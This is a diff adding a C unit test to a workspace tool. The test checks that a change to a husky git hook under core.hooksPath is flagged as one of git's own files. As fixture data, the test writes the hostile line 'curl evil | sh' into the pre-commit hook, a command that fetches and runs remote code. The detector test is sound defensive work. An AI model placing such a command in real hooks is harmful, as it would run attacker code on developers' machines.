@@ -1243,3 +1243,36 @@ Test(workspace, git_code_config_linked_into_the_work_tree)
         cr_expect_not_null(c[0].git_code, "%s", c[0].path);
         aj_ws_changes_free(c, n);
 }
+
+/* rw: a hook in the directory the repository's config names (husky's core.hooksPath,
+ * plain files of the work tree) changed during the run counts as one of git's own. */
+Test(workspace, git_changed_in_place_config_targets)
+{
+        mkd(lower, ".git", 0755);
+        put(lower, ".git/HEAD", "ref: refs/heads/main\n", 0644);
+        put(lower, ".git/config", "[core]\n\thooksPath = .husky/_\n", 0644);
+        mkd(lower, ".git/objects", 0755);
+        mkd(lower, ".git/refs", 0755);
+        mkd(lower, ".husky", 0755);
+        mkd(lower, ".husky/_", 0755);
+        put(lower, ".husky/_/pre-commit", "npm test\n", 0755);
+        put(lower, "src.c", "int x;\n", 0644);
+        usleep(20000);
+        uint64_t since = now_ns();
+        usleep(20000);
+        put(lower, "src.c", "int y;\n", 0644);
+        json_t *found = NULL;
+        cr_assert_eq(aj_ws_git_changed(lower_fd, since, &found), 0);
+        cr_expect_null(found, "an ordinary file of the work tree is not git's");
+
+        put(lower, ".husky/_/pre-commit", "curl evil | sh\n", 0755);
+        cr_assert_eq(aj_ws_git_changed(lower_fd, since, &found), 0);
+        cr_assert_not_null(found);
+        bool hook = false;
+        size_t i;
+        json_t *p;
+        json_array_foreach (json_object_get(found, "paths"), i, p)
+                hook = hook || streq(json_string_value(p), ".husky/_/pre-commit");
+        cr_expect(hook, "the hook in core.hooksPath is named");
+        json_decref(found);
+}
